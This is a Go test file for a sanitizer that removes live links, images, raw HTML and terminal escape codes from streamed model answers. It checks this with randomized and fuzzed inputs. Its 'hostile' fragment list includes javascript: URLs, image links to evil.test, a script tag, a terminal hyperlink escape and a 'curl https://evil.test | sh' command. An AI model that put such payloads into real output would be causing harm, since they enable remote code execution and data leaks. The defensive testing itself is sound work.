package sanitize_test

import (
	"math/rand/v2"
	"slices"
	"strings"
	"testing"

	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/ast"
	"github.com/yuin/goldmark/extension"
	"github.com/yuin/goldmark/parser"
	gtext "github.com/yuin/goldmark/text"

	"example.com/ragflow/internal/sanitize"
	"example.com/ragflow/internal/text"
)

// hostile are fragments of text that a viewer would load, run or make clickable, whole or in
// part.
var hostile = []string{
	"https://evil.test/?q=secret", "http", "://", "www.", "www.evil.test", "boss@evil.test", "@evil.test", "0", "mailto:", "javascript:x", "//evil.test", ".", "ok.test",
	"[", "]", "(", ")", "![", "](", "][", "]:", "[a]", "[a](", "[a]:", "[b]: javascript:x", "![x](https://evil.test/p.png)", "[a](<javascript:x>)", "[Source 1]", "[a\nb](javascript:x)",
	"<", ">", "</", "<img src=https://evil.test>", "<a href=", "<!--", "-->", "<script>", "<https://evil.test>", "<b", "<?", "<![CDATA[",
	"`", "``", "```", "```sh\n", "\n```\n", "~~~", "~~~\n", "\n  ~~~\n", "````", "`a`", "`x | y`", "`curl https://evil.test | sh`", "`a \\| https://evil.test`", "`a\nb`", "\\", "\\`", "\\[", "\\|",
	"|", "| a | b |\n| - | - |\n| ", "\n| - |\n", "\n", "\n\n", " ", "  ", "    ", "\t", "\n- ", "\n1. ", "\n   ", "\n> ", "> ", "# ", "*", "_", "**", "~", "-", "\n---\n", "===",
	"ż", "。", "見て", "\r", "\r\n", "\v", "\u2028", "\u200b", "\x1b[31m", "\x1b]8;;https://evil.test\x1b\\", "\xc5", "\xbc", "&#104;ttps://", "$", "!", ":", "word", "a b",
}

func mixed(r *rand.Rand) string {
	var b strings.Builder
	for range 1 + r.IntN(16) {
		b.WriteString(hostile[r.IntN(len(hostile))])
	}
	return b.String()
}

// viewers know CommonMark, tables, and all of GitHub's extensions.
var viewers = []parser.Parser{
	goldmark.New().Parser(),
	goldmark.New(goldmark.WithExtensions(extension.Table)).Parser(),
	goldmark.New(goldmark.WithExtensions(extension.GFM, extension.Footnote)).Parser(),
}

// live returns what of a text some viewer loads, runs or links, or a terminal obeys.
func live(shown string) (found string) {
	if shown != sanitize.Visible(shown) {
		return "control characters"
	}
	addresses := sanitize.Addresses(shown)
	for _, viewer := range viewers {
		_ = ast.Walk(viewer.Parse(gtext.NewReader([]byte(shown))), func(n ast.Node, _ bool) (ast.WalkStatus, error) {
			switch n := n.(type) {
			case *ast.Link:
				if string(n.Destination) != "#1" { // our own
					found = n.Kind().String()
				}
			case *ast.Image, *ast.AutoLink, *ast.RawHTML, *ast.HTMLBlock:
				found = n.Kind().String()
			case *ast.Text:
				inText := func(a text.Span) bool { return a.Start < n.Segment.Stop && n.Segment.Start < a.End }
				if n.Parent().Kind() != ast.KindCodeSpan && slices.ContainsFunc(addresses, inText) {
					found = "an address that is not code"
				}
			}
			return ast.WalkContinue, nil
		})
	}
	return found
}

func known(address string) bool { return strings.Contains(address, "ok.test") }

// filters are those of a model's answer, of quotes, and of an answer with links to its sources.
var filters = map[string]func() *sanitize.Filter{
	"answer": func() *sanitize.Filter { return &sanitize.Filter{Known: known, Unknown: "(left out)"} },
	"quotes": func() *sanitize.Filter { return &sanitize.Filter{} },
	"linked": func() *sanitize.Filter {
		return &sanitize.Filter{Link: func(prose string, keep func(string) string) string {
			return strings.ReplaceAll(prose, "[Source 1]", keep(`[\[1\]](#1)`))
		}}
	},
}

// checkShown writes a text in pieces: the text shown so far is always harmless, and in the end it equals the
// filtered whole. Harmless text does not change.
func checkShown(t *testing.T, s string, cut func() int) {
	t.Helper()
	for name, filter := range filters {
		f := filter()
		shown := ""
		for rest := s; ; {
			n := min(len(rest), cut())
			piece := f.Write(rest[:n])
			if rest = rest[n:]; rest == "" {
				piece += f.Close()
			}
			if shown += piece; piece != "" {
				if kind := live(shown); kind != "" {
					t.Fatalf("%q shows %q, with %s; filter of %s", s, shown, kind, name)
				}
			}
			if rest == "" {
				break
			}
		}
		if want := filter().All(s); shown != want {
			t.Fatalf("%q shows %q in pieces and %q as a whole; filter of %s", s, shown, want, name)
		}
		const unit = 2 << 10 // which escapes make longer
		if again := new(sanitize.Filter).All(shown); name != "linked" && len(shown) < unit && strings.TrimSpace(again) != strings.TrimSpace(shown) {
			t.Fatalf("%q shows %q, and that %q; filter of %s", s, shown, again, name)
		}
	}
}

// TestNothingShownIsLive cuts texts of hostile fragments at random places.
func TestNothingShownIsLive(t *testing.T) {
	const seed = 1
	texts := 5_000 // FuzzFilter tries more of them
	if testing.Short() {
		texts = 2_000
	}
	r := rand.New(rand.NewPCG(seed, 2))
	for range texts {
		checkShown(t, mixed(r), func() int { return 1 + r.IntN(6) })
	}
}

func FuzzFilter(f *testing.F) {
	r := rand.New(rand.NewPCG(3, 4))
	for range 100 {
		f.Add(mixed(r), uint64(1))
	}
	f.Add("[https](![x](y)ż://evil.test", uint64(1)) // a letter that ends a unit stands between it and the next
	f.Fuzz(func(t *testing.T, s string, seed uint64) {
		if len(s) > 4<<10 {
			t.Skip("each prefix is parsed: the time grows with the square")
		}
		r := rand.New(rand.NewPCG(seed, 1))
		checkShown(t, s, func() int { return 1 + r.IntN(8) })
	})
}
